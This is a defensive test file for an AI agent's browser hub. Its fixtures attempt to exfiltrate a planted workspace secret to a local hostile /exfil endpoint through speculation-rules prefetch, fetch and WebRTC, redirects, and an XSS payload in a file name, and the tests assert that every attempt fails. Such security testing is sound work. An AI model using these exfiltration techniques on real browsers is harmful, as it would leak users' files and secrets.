// A page the agent opens must not read the workspace and send it away. Each attack runs end to
// end through the hub with real Chromium against a hostile site on 127.0.0.1 that records what
// reaches its /exfil endpoint; a secret planted in the workspace must never arrive there.
import assert from "node:assert/strict";
import { randomUUID } from "node:crypto";
import fs from "node:fs";
import path from "node:path";
import { after, before, describe, test } from "node:test";
import type { Client } from "@modelcontextprotocol/sdk/client/index.js";
import { PNG } from "pngjs";
import { call } from "../helpers/hub.js";
import { until } from "../helpers/wait.js";
import { startHostile, stealScript, WORKSPACE, type Hostile } from "../fixtures/browser/hostile.js";
import { evaluate, ok, refOf, startHarness, textOf, type Harness } from "./harness.js";

const SECRET = `SECRET-${randomUUID()}`;
const STOLEN = ["/secret.txt", "/secret.html"];

describe("browser workspace exfiltration", () => {
  let h: Harness;
  let evil: Hostile;
  let c: Client;
  const write = (rel: string, content: string | Buffer) => {
    fs.mkdirSync(path.dirname(path.join(h.workspace, rel)), { recursive: true });
    fs.writeFileSync(path.join(h.workspace, rel), content);
  };
  const fileUrl = (rel: string) => `file://${path.join(h.workspace, rel)}`;

  /**
   * Nothing the hostile site received holds the secret. Called once the attack is known to be over:
   * its page was refused, Chromium blocked its script, or its script's last step was seen.
   */
  function assertNothingStolen(): void {
    for (const got of evil.received) assert.doesNotMatch(got, new RegExp(SECRET), `the hostile site received workspace content: ${got.slice(0, 300)}`);
  }

  /** How many console messages of this session say Chromium blocked a sandboxed document's script. */
  async function blockedScripts(): Promise<number> {
    return (textOf(await ok(c, "console_messages", { level: "error", limit: 1000 })).match(/Blocked script execution/g) ?? []).length;
  }

  /** Every tab's text: none may show the secret. */
  async function assertNoTabShowsSecret(): Promise<void> {
    const tabs = ((await ok(c, "tabs", { action: "list" })).structuredContent as { tabs: unknown[] }).tabs;
    for (let i = 0; i < tabs.length; i++) {
      await ok(c, "tabs", { action: "select", index: i });
      assert.doesNotMatch(textOf(await ok(c, "get_text")), new RegExp(SECRET), `tab ${i} shows the secret`);
    }
  }

  before(async () => {
    h = await startHarness();
    evil = await startHostile(STOLEN);
    c = await h.hub.connect();
    write("secret.txt", `${SECRET}\n`);
    write("secret.html", `<title>Secret</title><p>${SECRET}</p>`);
  });
  after(async () => {
    await h?.stop();
    await evil?.close();
  });

  test("a hostile page that downloads a page and opens it through the workspace origin gets nothing", async () => {
    await ok(c, "navigate", { url: `${evil.origin}/attack` });
    const downloaded = path.join(h.workspace, "downloads", "evil.html");
    await until("the browser to save the page's download into the workspace under its name", () => fs.existsSync(downloaded));
    // the page sends its tab to the download after 1.5 s: the hub's refusal, not the download, is shown
    await ok(c, "wait_for", { text: "only reachable from workspace pages" });
    assert.match(textOf(await ok(c, "snapshot")), /only reachable from workspace pages or browser_navigate/);
    assertNothingStolen();
    await assertNoTabShowsSecret();
  });

  test("the downloaded page stays inert when the agent opens it itself", async () => {
    const blockedBefore = await blockedScripts();
    const snap = textOf(await ok(c, "navigate", { url: fileUrl("downloads/evil.html") }));
    assert.match(snap, /evil page/, "the download is shown");
    await until("Chromium to block the download's script", async () => (await blockedScripts()) > blockedBefore);
    assert.match(textOf(await ok(c, "snapshot")), /Title: Evil/, "its script did not run");
    assert.equal(await evaluate(c, "document.getElementById('got')"), null);
    assertNothingStolen();
    await assertNoTabShowsSecret();
  });

  test("a foreign page's location.href into the workspace is refused", async () => {
    for (const file of STOLEN) {
      await ok(c, "navigate", { url: `${evil.origin}/jump?to=${encodeURIComponent(file)}` });
      await ok(c, "wait_for", { text: "only reachable from workspace pages" });
      assert.equal(await evaluate(c, "location.href"), `${WORKSPACE}${file}`);
      await assertNoTabShowsSecret();
    }
  });

  test("a foreign page cannot fetch, XHR or frame workspace files", async () => {
    const before = evil.received.length;
    const packetsBefore = evil.turnPackets;
    await ok(c, "navigate", { url: `${evil.origin}/steal` });
    // a foreign page keeps WebRTC: this shows the TURN channel the workspace test relies on is live
    await until("the page to send what it got, and its WebRTC to reach the TURN port", () => evil.received.length > before && evil.turnPackets > packetsBefore);
    const sent = evil.received.slice(before).join("\n");
    assert.match(sent, /fetch failed/, `the page ran its reads and sent what it got: ${sent.slice(0, 300)}`);
    assertNothingStolen();
    await assertNoTabShowsSecret();
  });

  test("a redirect from a foreign site into the workspace is refused, for the tool and for a page", async () => {
    const viaTool = await call(c, "browser_navigate", { url: `${evil.origin}/redirect?to=${encodeURIComponent("/secret.txt")}` });
    assert.doesNotMatch(textOf(viaTool), new RegExp(SECRET));
    await assertNoTabShowsSecret();
    await ok(c, "navigate", { url: `${evil.origin}/jump-redirect?to=${encodeURIComponent("/secret.html")}` });
    // the page's jump lands on the refusal (waited for: on a loaded machine a fixed second could end
    // before the jump, which then cut the next test's navigation short)
    await ok(c, "wait_for", { text: "only reachable from workspace pages" });
    await assertNoTabShowsSecret();
    assertNothingStolen();
  });

  test("a page the agent saved in the workspace runs but cannot read its siblings, and sends nothing anywhere", async () => {
    const before = evil.received.length;
    const packetsBefore = evil.turnPackets;
    write(
      "saved/page.html",
      `<!doctype html><title>Saved</title><body><p>saved earlier</p><script>${stealScript(
        evil.origin,
        STOLEN.map((f) => `..${f}`),
        evil.turnPort,
      )}</script>`,
    );
    // its last try, location to the hostile site, is stopped by Chromium itself (the page's
    // Connection-Allowlist), and the first response after says so: every send before it was tried
    // (and stopped) by then
    const replies = [textOf(await ok(c, "navigate", { url: fileUrl("saved/page.html") }))];
    const held = /A workspace page may not open other sites: Chromium stopped .* Open the address you want with browser_navigate/;
    await until("the notice of the held navigation", async () => {
      if (held.test(replies.join("\n"))) return true;
      replies.push(textOf(await ok(c, "snapshot")));
      return false;
    });
    assertNothingStolen();
    await assertNoTabShowsSecret();
    const messages = textOf(await ok(c, "console_messages"));
    assert.match(messages, /stolen: fetch failed.*xhr failed.*frame failed/s, "the page's script ran and every read failed");
    assert.doesNotMatch(messages, new RegExp(SECRET));
    assert.deepEqual(evil.received.slice(before), [], "not even the failures reached the hostile site (beacon, fetch, image, popup, location)");
    assert.match(messages, /webrtc failed/);
    assert.equal(evil.turnPackets, packetsBefore, "nothing reached the hostile TURN server");
  });

  test("a workspace page's speculation rules reach no other site with what it learnt", async () => {
    // what a page can learn of other files: an image's size, the globals a script it includes defines
    write("spec/plot.png", PNG.sync.write(new PNG({ width: 7, height: 5 })));
    write("spec/config.js", `var LEARNT = ${JSON.stringify(SECRET)};`);
    const exfil = (via: string) => `${evil.origin}/exfil?via=${via}&d=`;
    write(
      "spec/page.html",
      `<!doctype html><title>Spec</title><script src="config.js"></script>
       <script type="speculationrules">{"prefetch":[{"source":"list","urls":["${exfil("static")}fixed"]}]}</script>
       <img id="plot" src="plot.png"><a id="link" href="${evil.origin}/">a link</a>
       <script>
         document.getElementById("plot").decode().then(() => {
           const d = encodeURIComponent(LEARNT + "-w" + document.getElementById("plot").naturalWidth);
           document.getElementById("link").href = ${JSON.stringify(exfil("document"))} + d;
           const rules = {
             prefetch: [
               { source: "list", urls: [${JSON.stringify(exfil("prefetch"))} + d] },
               { source: "document", where: { href_matches: ${JSON.stringify(`${evil.origin}/*`)} }, eagerness: "immediate" },
             ],
             prerender: [{ source: "list", urls: [${JSON.stringify(exfil("prerender"))} + d] }],
           };
           const script = Object.assign(document.createElement("script"), { type: "speculationrules", textContent: JSON.stringify(rules) });
           document.body.append(script);
           console.log("rules added: " + HTMLScriptElement.supports("speculationrules"));
         });
       </script>`,
    );
    // (a Speculation-Rules header would be a third way in: a workspace page's headers are the hub's alone)
    await ok(c, "navigate", { url: `${evil.origin}/speculate` });
    await until("an ordinary site's own prefetch", () => evil.received.some((r) => r.includes("via=site-prefetch")));
    const before = evil.received.length;
    await ok(c, "navigate", { url: fileUrl("spec/page.html") });
    assert.match(textOf(await ok(c, "wait_for", { text: "a link" })), /a link/);
    assert.equal(await evaluate(c, "document.getElementById('plot').naturalWidth"), 7, "the page read the image");
    // the page added its rules, and Chromium takes speculation rules; then (bounded) nothing may arrive
    await until("the page's rules", async () => /rules added: true/.test(textOf(await ok(c, "console_messages"))));
    // Chromium says nothing when it declines a speculation, so this waits (bounded) for one that
    // must not come: the only way to see that something did not happen. The ordinary site's own
    // prefetch above shows how soon one comes when it is allowed.
    await until("a speculation to reach the hostile site", () => evil.received.slice(before).some((r) => /via=/.test(r)), 5_000).catch(() => undefined);
    assert.deepEqual(evil.received.slice(before), [], "no speculation (static, prefetch, prerender, document rule) reached the hostile site");
    assertNothingStolen();
  });

  test("a listing never runs markup from a file name", async () => {
    write("listed/<img src=x onerror=\"document.title='pwned'\">.txt", "x");
    const snap = textOf(await ok(c, "navigate", { url: fileUrl("listed") }));
    assert.match(snap, /Title: Index of \/listed/);
    assert.match(snap, /link "<img src=x onerror=/);
    assert.equal(await evaluate(c, "document.querySelectorAll('img').length"), 0);
  });

  test("the agent's own HTML report renders with its image, style and scripts, and its links work", async () => {
    const png = new PNG({ width: 7, height: 5 });
    write("report/plot.png", PNG.sync.write(png));
    write("report/style.css", "h1 { color: rgb(1, 2, 3); }");
    write("report/app.js", "document.getElementById('fromjs').textContent = 'chart drawn by app.js';");
    write("report/details.html", "<title>Details</title><p>more details</p>");
    write(
      "report/index.html",
      `<!doctype html><title>Report</title><link rel="stylesheet" href="style.css"><h1>Results</h1>
       <img id="plot" src="plot.png" alt="plot"><p id="fromjs">no script</p><p id="inline"></p>
       <a href="details.html">details</a><a href="../report/">folder</a><a href="${evil.origin}/exfil?d=clicked">elsewhere</a>
       <script src="app.js"></script><script>document.getElementById('inline').textContent = 'inline ran';</script>`,
    );
    const snap = textOf(await ok(c, "navigate", { url: fileUrl("report/index.html") }));
    assert.match(snap, /chart drawn by app\.js/);
    assert.match(snap, /inline ran/);
    assert.equal(await evaluate(c, "document.getElementById('plot').naturalWidth"), 7);
    assert.equal(await evaluate(c, "getComputedStyle(document.querySelector('h1')).color"), "rgb(1, 2, 3)");
    assert.equal(await evaluate(c, "origin"), "null", "each workspace document has an opaque origin");
    assert.match(textOf(await ok(c, "click", { ref: refOf(snap, 'link "details"') })), /more details/);
    const again = textOf(await ok(c, "back"));
    const listing = textOf(await ok(c, "click", { ref: refOf(again, 'link "folder"') }));
    assert.match(listing, /link "plot\.png"/);
    assert.match(textOf(await ok(c, "click", { ref: refOf(listing, 'link "details.html"') })), /more details/);
    // leaving the workspace is the tool's call, not the page's
    const report = textOf(await ok(c, "navigate", { url: fileUrl("report/index.html") }));
    const before = evil.received.length;
    assert.match(
      textOf(await ok(c, "click", { ref: refOf(report, 'link "elsewhere"') })),
      /A workspace page may not open other sites[:;] .* with browser_navigate/,
    );
    assert.deepEqual(evil.received.slice(before), []);
    // a new tab and the history tools are the tool's too
    assert.match(textOf(await ok(c, "tabs", { action: "new", url: `${WORKSPACE}/report/index.html` })), /chart drawn by app\.js/);
    await ok(c, "navigate", { url: `${h.site.origin}/a` });
    assert.match(textOf(await ok(c, "back")), /chart drawn by app\.js/);
    assert.match(textOf(await ok(c, "reload")), /chart drawn by app\.js/);
    await call(c, "browser_navigate", { url: `${evil.origin}/exfil?d=by-the-tool` }); // a 204: Chromium reports the navigation aborted
    assert.match(evil.received.at(-1) ?? "", /by-the-tool/);
  });
});
